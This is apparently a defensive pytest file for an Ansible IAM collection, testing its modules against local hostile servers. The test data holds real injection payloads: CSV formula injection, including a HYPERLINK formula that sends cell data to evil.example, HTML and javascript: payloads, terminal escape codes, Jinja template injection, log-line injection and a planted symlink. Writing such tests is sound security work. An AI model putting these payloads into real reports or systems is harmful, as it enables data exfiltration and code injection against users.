# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright (c) 2026 conductorone.iam contributors
"""11. Hostile tenant: a server that trickles, floods or sends text meant for a terminal or a spreadsheet (issue 20).

Each server is a small Python server of this process on another loopback address (127.0.0.2), as in
test_rel_security.py, whose ``Hostile`` server and helpers this file reuses; the trickling one is a raw socket
server of its own (Hostile answers at once). Every task authenticates with a static ``access_token`` (so no token
exchange reaches the hostile side), has ``timeout: 2`` and ``retries: 0`` unless it says otherwise, and every
server bounds its own misbehaviour (a trickle of a few seconds, a few thousand pages), so each scenario ends in
seconds also on code without the defence (where it then fails: the task succeeds, or prints what it must not).
Playbooks run at -vvv with ANSIBLE_LOG_PATH; stdout, stderr and the log file are scanned.
"""

import csv
import io
import json
import socket
import threading
import time
from pathlib import Path

import pytest

import relkit
from test_rel_security import Hostile, _json, _leaks, _msg, _outputs, _refused

DEFAULTS = {'retries': 0, 'timeout': 2, 'token_cache': False}
TOKEN = 'hostile-static-bearer-0123456789abcdef'
# escape codes a terminal acts on: OSC 0 (window title), ED (clear screen), SGR red; and a bidi override
HEADER_ESCAPES = '\x1b]0;pwned by tenant\x07\x1b[2J\x1b[31mRED'  # a header value is Latin-1
ESCAPES = HEADER_ESCAPES + '\u202etxt.exe'
# a name the server returns that Jinja would turn into EVALUATED
JINJA, EVALUATED = "{{ 'jinja' ~ 'EVALUATED' }}", 'jinjaEVALUATED'


# --------------------------------------------------------------------------------------------------------------
# a server that trickles its answer


class Trickle:
    """Answers every request with a complete, valid JSON listing, ``interval`` seconds per byte of the body (the
    headers at once); records how many body bytes it got out before the client hung up."""

    BODY = b'{"list": [], "nextPageToken": "", "pad": "................"}'

    def __init__(self, host='127.0.0.2', interval=0.3):
        self.interval = interval
        self.sent = []  # body bytes sent, per connection
        self.listener = socket.socket()
        self.listener.bind((host, 0))
        self.listener.listen(8)
        self.url = 'http://%s:%d' % (host, self.listener.getsockname()[1])
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, dummy = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection):
        index = len(self.sent)
        self.sent.append(0)
        with connection:
            try:
                connection.recv(65536)
                connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n'
                                   % len(self.BODY))
                for offset in range(len(self.BODY)):
                    connection.sendall(self.BODY[offset:offset + 1])
                    self.sent[index] = offset + 1
                    time.sleep(self.interval)
            except OSError:
                pass

    def stop(self):
        self.listener.close()


# --------------------------------------------------------------------------------------------------------------
# the scenarios: one playbook, one (or two) hostile servers per scenario


class Finding:
    def __init__(self, key, attack, expected, tasks, check):
        self.key, self.attack, self.expected, self.tasks, self.check = key, attack, expected, tasks, check


class Ctx:
    def __init__(self, workdir):
        self.workdir = Path(workdir)
        self.servers = {}
        self.defaults = {}  # a finding's module_defaults for its play (a role's tasks take them from the play)
        self.run = None

    def r(self, name):
        return self.run.result(name)


def _on(server, **overrides):
    args = {'server_url': server.url, 'access_token': TOKEN}
    args.update(overrides)
    return args


def _h1_trickle():
    def tasks(ctx):
        slow = ctx.servers['H1'] = Trickle(interval=0.3)  # the whole body takes 18 s
        return [relkit.mod('H1 one attempt', 'role_info', _on(slow)),
                relkit.mod('H1 two attempts', 'role_info', _on(slow, retries=1))]

    def check(ctx):
        slow = ctx.servers['H1']
        problems = []
        for name in ('H1 one attempt', 'H1 two attempts'):
            problems += ['%s: %s' % (name, p) for p in _refused(ctx.r(name), 'timed out', 'timeout bounds the whole request')]
        # 2 s at one byte per 0.3 s is 7 bytes; anything near the whole body means the deadline did not hold
        if len(slow.sent) != 3 or max(slow.sent or [0]) > 15:
            problems.append('body bytes the server got out per attempt: %s of %d (expected 3 attempts, each cut '
                            'after about 7)' % (slow.sent, len(Trickle.BODY)))
        return problems, '%s; bytes sent per attempt %s of %d' % (
            _msg(ctx.r('H1 one attempt'))[:160], slow.sent, len(Trickle.BODY))

    return Finding('H1', 'a server that sends its (valid) answer one byte every 0.3 s (18 s in all); `timeout: 2`, '
                   '`retries: 0` and `retries: 1`',
                   'each attempt ends after `timeout` (connect to last byte), failing with "timed out"; the server '
                   'gets out about 7 bytes per attempt, 3 attempts in all', tasks, check)


def _endless_pages(per_page, stop_after):
    served = {'pages': 0}

    def respond(method, path, headers, body):
        served['pages'] += 1
        more = served['pages'] < stop_after  # the server's own bound, so code without the limit still ends
        return _json(200, {'list': [{'id': 'r%d-%d' % (served['pages'], n), 'displayName': 'role %d' % n}
                                    for n in range(per_page)],
                           'nextPageToken': 'page-%d' % served['pages'] if more else ''})
    return respond, served


def _h2_listing():
    def tasks(ctx):
        respond, ctx.servers['H2 pages served'] = _endless_pages(0, 200)
        pages = ctx.servers['H2'] = Hostile('127.0.0.2', respond=respond)
        respond, ctx.servers['H2 items served'] = _endless_pages(100, 50)
        items = ctx.servers['H2i'] = Hostile('127.0.0.2', respond=respond)
        big = ctx.servers['H2b'] = Hostile('127.0.0.2', respond=lambda *a: _json(200, {
            'list': [], 'nextPageToken': '', 'pad': 'x' * (17 * 1024 * 1024)}))
        return [relkit.mod('H2 pages', 'role_info', _on(pages, max_list_items=1000)),
                relkit.mod('H2 items', 'role_info', _on(items, max_list_items=250)),
                relkit.mod('H2 body', 'role_info', _on(big))]

    def check(ctx):
        endpoint = 'Roles.List (GET /api/v1/iam/roles)'
        problems = []
        for label, words in (('pages', ('after 20 pages', 'max_list_items=1000')),
                             ('items', ('more than 250 items', '300 so far after 3 pages')),
                             ('body', ('larger than 16777216 bytes', 'max_response_bytes'))):
            problems += ['%s: %s' % (label, p) for p in _refused(ctx.r('H2 ' + label), endpoint, *words)]
        pages, items = ctx.servers['H2 pages served']['pages'], ctx.servers['H2 items served']['pages']
        if pages != 21 or items != 3:
            problems.append('pages served: %d endless empty pages (expected 21), %d pages of 100 (expected 3)' % (
                pages, items))
        return problems, 'pages: %s; items: %s; body: %s' % (_msg(ctx.r('H2 pages'))[:150], _msg(ctx.r('H2 items'))[:120],
                                                             _msg(ctx.r('H2 body'))[:100])

    return Finding('H2', 'a listing with a new page token on every (empty) page, up to 200, with `max_list_items: 1000` '
                   '(page limit 20; the default 100000 allows 2000); one of 100-item pages with `max_list_items: 250`; '
                   'a 17 MiB answer (default `max_response_bytes` 16 MiB)',
                   'refused at the 21st page, at the 3rd page of items (300 > 250) and at 16 MiB, each naming the '
                   'endpoint, the count and the option to raise', tasks, check)


def _h3_escapes():
    calls = []

    def respond(method, path, headers, body):
        calls.append(path)
        if len(calls) == 1:
            return _json(429, {'code': 8, 'message': 'slow down' + ESCAPES}, **{'Retry-After': '0', 'X-Request-Id': HEADER_ESCAPES})
        if len(calls) == 2:  # a role whose name and display name are Jinja
            return _json(200, {'list': [{'id': 'r-jinja', 'name': JINJA, 'displayName': JINJA}], 'nextPageToken': ''})
        return _json(400, {'code': 3, 'message': 'role ' + ESCAPES + ' is invalid\r\nINJECTED: fake log line'},
                     **{'X-Request-Id': 'req\x1b[2J'})

    def tasks(ctx):
        ctx.servers['H3'] = Hostile('127.0.0.2', respond=respond)
        return [relkit.mod('H3 retry', 'role_info', _on(ctx.servers['H3'], retries=1)),
                {'name': 'H3 fact', 'ansible.builtin.set_fact': {'h3_roles': '{{ r.roles }}'}},
                {'name': 'H3 write', 'ansible.builtin.copy': {'content': '{{ h3_roles | to_json }}',
                                                              'dest': str(ctx.workdir / 'h3-roles.json')}},
                relkit.mod('H3 error', 'role_info', _on(ctx.servers['H3']))]

    def check(ctx):
        r = ctx.r('H3 error')
        problems = _refused(r, 'HTTP 400', '\\x1b]0;pwned', '\\x1b[2J')
        problems += ['retry task: %s' % _msg(ctx.r('H3 retry'))[:200]] if relkit.failed(ctx.r('H3 retry')) else []
        warnings = [line for line in ctx.run.stderr.splitlines() if 'HTTP 429' in line and 'retry 1 of 1' in line]
        problems += ['no retry warning naming the request id as text: %s' % warnings] if not any(
            '(request-id: \\x1b]0;pwned by tenant\\x07' in line for line in warnings) else []
        for output, text in _outputs(ctx.run).items():
            for char in ('\x1b', '\x07', '\u202e', '\r'):
                if char in text:
                    problems.append('%r printed raw in %s' % (char, output))
        try:
            names = [role.get('display_name') for role in json.loads((ctx.workdir / 'h3-roles.json').read_text())]
        except (OSError, ValueError) as exc:
            names = ['unreadable: %s' % exc]
        if names != [JINJA] or EVALUATED in ctx.run.stdout:
            problems.append('Jinja in a role name was evaluated (result, set_fact): %s' % names)
        if '\nINJECTED' in _msg(r):
            problems.append('the server started a new line in the message')
        return problems, '%s; warning: %s' % (_msg(r)[:200], ' '.join(warnings)[:200])

    return Finding('H3', 'a 429 whose `X-Request-Id` and message carry OSC/CSI escapes (title, clear screen, red) and '
                   'U+202E (then a 200 listing a role named `{{ ... }}`, kept by set_fact), and a 400 whose message adds '
                   'CR LF and a fake log line',
                   'the retry warning and the failure show every control character as `\\x1b`-style text; no raw '
                   'ESC, BEL, CR or U+202E in stdout, stderr or the log; the role name stays literal', tasks, check)


REPORT_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\t=1+1', '\r=2+2', '  =3+3', '\uff1d4+4', '@SUM(A1)',
                '<img src=x onerror=alert(1)>', '[click](javascript:alert(1))', '![t](https://evil.example/t.png)',
                'cr\rover', 'pipe | cell', JINJA, "{% raw %}{{ lookup('env', 'HOME') }}{% endraw %}"]
EXPIRED = '2026-01-01T00:00:00Z'


def _formula(cell):
    """What a spreadsheet would run: a cell starting with TAB, CR or LF, or with = + - @ (or full-width) after blanks."""
    stripped = cell.lstrip(' \u3000')
    return cell[:1] in ('\t', '\r', '\n') or (stripped[:1] != '' and stripped[0] in '=+-@\uff1d\uff0b\uff0d\uff20')


def _h4_report():
    clients = [{'id': 'hostile-%d' % index, 'clientId': 'hostile-%d@tenant/pcc' % index, 'userId': 'u1',
                'displayName': name, 'createdAt': '2025-01-01T00:00:00Z', 'expiresTime': EXPIRED}
               for index, name in enumerate(REPORT_NAMES)]
    clients += [{'id': '[x](javascript:alert(1))', 'clientId': 'evil@tenant/pcc', 'userId': '<b>u2<b>',
                 'displayName': 'deleted one', 'createdAt': '2025-01-01T00:00:00Z', 'expiresTime': EXPIRED},
                {'id': '![k](https://evil.example/k.png)', 'clientId': 'kept@tenant/pcc', 'userId': 'u1',
                 'displayName': 'kept one', 'createdAt': '2025-01-01T00:00:00Z', 'expiresTime': EXPIRED}]

    def respond(method, path, headers, body):
        if method == 'DELETE':
            return _json(200, {})
        return _json(200, {'list': clients, 'nextPageToken': ''})

    def tasks(ctx):
        server = ctx.servers['H4'] = Hostile('127.0.0.2', respond=respond)
        ctx.defaults['H4'] = dict(DEFAULTS, **_on(server))
        out = ctx.workdir / 'h4'
        out.mkdir(parents=True, exist_ok=True)
        victim = out / 'victim.txt'
        victim.write_text('victim\n')
        (out / 'report.csv').symlink_to(victim)
        return [{'name': 'H4 role', 'ansible.builtin.include_role': {'name': 'conductorone.iam.credential_hygiene'},
                 'ignore_errors': True,
                 'vars': {'conductorone_credential_hygiene_report_json': str(out / 'report.json'),
                          'conductorone_credential_hygiene_report_markdown': str(out / 'report.md'),
                          'conductorone_credential_hygiene_report_csv': str(out / 'report.csv'),
                          'conductorone_credential_hygiene_enforce': True,
                          'conductorone_credential_hygiene_protected': ['![k](https://evil.example/k.png)'],
                          'conductorone_credential_hygiene_fail_on_violations': False},
                 },
                {'name': 'H4 fact', 'ansible.builtin.copy': {
                    'content': '{{ conductorone_credential_hygiene_report | to_json }}', 'dest': str(out / 'fact.json')},
                 'ignore_errors': True}]

    def check(ctx):
        out = ctx.workdir / 'h4'
        problems = []
        try:
            csv_text = (out / 'report.csv').read_text()
            markdown = (out / 'report.md').read_text()
            fact = json.loads((out / 'fact.json').read_text())
        except (OSError, ValueError) as exc:
            return ['report files missing: %s; %s' % (exc, ctx.run.describe()[-600:])], 'no report'
        if (out / 'victim.txt').read_text() != 'victim\n' or (out / 'report.csv').is_symlink():
            problems.append('the CSV report was written through the planted symlink')
        rows = list(csv.reader(io.StringIO(csv_text)))
        if len(rows) != 1 + len(REPORT_NAMES) + 2 or any(len(row) != 8 for row in rows):
            problems.append('CSV read back as %d rows of %s cells' % (len(rows), sorted(set(len(row) for row in rows))))
        problems += ['CSV cell a spreadsheet runs as a formula: %r' % cell for row in rows[1:] for cell in row
                     if _formula(cell)]
        for raw in ('<img', '<b>', '](', '![', '\r', JINJA[:8], EVALUATED):
            if raw in markdown:
                problems.append('Markdown holds %r raw' % raw)
        printed = ctx.run.stdout.split('credential_hygiene : Show the report]', 1)[-1].split('TASK [', 1)[0]
        for raw in ('<img', '](javascript', '![t]', EVALUATED):
            if raw in printed:
                problems.append('the printed table holds %r raw' % raw)
        deleted = [line for line in markdown.splitlines() if line.startswith('Deleted:')]
        kept = [line for line in markdown.splitlines() if line.startswith('Kept:')]
        if not deleted or '\\[x\\]\\(javascript:alert\\(1\\)\\)' not in deleted[0]:
            problems.append('Deleted line does not show the id escaped: %s' % deleted)
        if not kept or '\\!\\[k\\]\\(https://evil.example/k.png\\)' not in kept[0]:
            problems.append('Kept line does not show the id escaped: %s' % kept)
        names = [row.get('display_name') for row in fact.get('violations') or []]
        if JINJA not in names or any(EVALUATED in str(name) for name in names):
            problems.append('Jinja in a display name was evaluated in the fact: %s' % names[-3:])
        return problems, 'CSV %d rows, Markdown %d lines; %s' % (len(rows), len(markdown.splitlines()),
                                                                 deleted[0][:120] if deleted else 'no Deleted line')

    return Finding('H4', 'credential_hygiene report of clients named `=HYPERLINK(...)`, TAB/CR/blank + `=`, full-width '
                   '`＝`, `@SUM`, `<img onerror>`, `javascript:` link, remote image, CR, pipe, `{{ \'jinja\' ~ \'EVALUATED\' }}`; ids '
                   'with link/image syntax in Deleted/Kept; a symlink planted at the CSV path',
                   'CSV read back with the csv module: no cell a spreadsheet runs as a formula; Markdown and the printed '
                   'table show every name and id literally (no raw HTML, link, image, CR); Jinja never evaluated; the '
                   'symlink replaced, its target untouched', tasks, check)


def _h5_malformed():
    def server(body, status=200, content_type='application/json'):
        return Hostile('127.0.0.2', respond=lambda *a: (status, {'Content-Type': content_type}, body))

    cases = [
        ('nested', '[' * 50000 + ']' * 50000, 200, ('nested too deeply',)),
        ('list', '[{"id": "r1"}]', 200, ('JSON list where an object was expected',)),
        ('html', '<html><body>maintenance</body></html>', 200, ('not JSON',)),
        ('echo', json.dumps({'code': 3, 'message': 'bad request from Authorization: Bearer %s token=%s' % (TOKEN, TOKEN)}),
         400, ('HTTP 400', 'bad request')),
    ]

    def tasks(ctx):
        built = []
        for label, body, status, dummy in cases:
            ctx.servers['H5 ' + label] = server(body, status)
            built.append(relkit.mod('H5 ' + label, 'role_info', _on(ctx.servers['H5 ' + label])))
        return built

    def check(ctx):
        problems = []
        for label, dummy, dummy2, words in cases:
            r = ctx.r('H5 ' + label)
            problems += ['%s: %s' % (label, p) for p in _refused(r, *words)]
            problems += ['%s: crashed' % label] if relkit.crashed(r) or 'unexpected error' in _msg(r) else []
            hits = len(ctx.servers['H5 ' + label].requests)
            problems += ['%s: %d requests (expected 1: fail fast)' % (label, hits)] if hits != 1 else []
        problems += _leaks(ctx.run, [('the bearer token', TOKEN)])
        return problems, '; '.join('%s: %s' % (label, _msg(ctx.r('H5 ' + label))[-90:]) for label, dummy, dummy2, dummy3
                                   in cases)

    return Finding('H5', '200 answers with JSON nested 50,000 deep, a JSON list where an object belongs, an HTML page; '
                   'a 400 whose message echoes the bearer token',
                   'each fails after one request with a message saying what was wrong (no "unexpected error"); the '
                   'token appears in no output', tasks, check)


FINDINGS = [_h1_trickle(), _h2_listing(), _h3_escapes(), _h4_report(), _h5_malformed()]


@relkit.job('hostile-main', weight=3)
def _main_job():
    ws = relkit.workspace()
    workdir = ws.subdir('hostile-main')
    ctx = Ctx(workdir)
    try:
        plays = []
        for finding in FINDINGS:
            built = finding.tasks(ctx)
            if built:
                plays.append(relkit.play(built, defaults=ctx.defaults.get(finding.key, DEFAULTS), name=finding.key))
        ctx.run = relkit.run_playbook(plays, None, name='hostile-main', workdir=workdir, verbosity=3,
                                      emulator_env=False, extra_env={'CONDUCTORONE_ACCESS_TOKEN': None})
        return relkit.check_each(((finding.key, finding.check) for finding in FINDINGS), ctx)
    finally:
        for server in ctx.servers.values():
            if hasattr(server, 'stop'):
                server.stop()


@pytest.mark.parametrize('key', [finding.key for finding in FINDINGS])
def test_hostile(key, report):
    out = relkit.job_result('hostile-main')
    finding = next(f for f in FINDINGS if f.key == key)
    problems, observed = out[key]
    report.add('hostile', finding.attack, finding.expected,
               (observed + ' -- ' if observed else '') + ('; '.join(problems) if problems else 'as expected'), not problems)
    assert not problems, '%s: %s' % (key, problems)
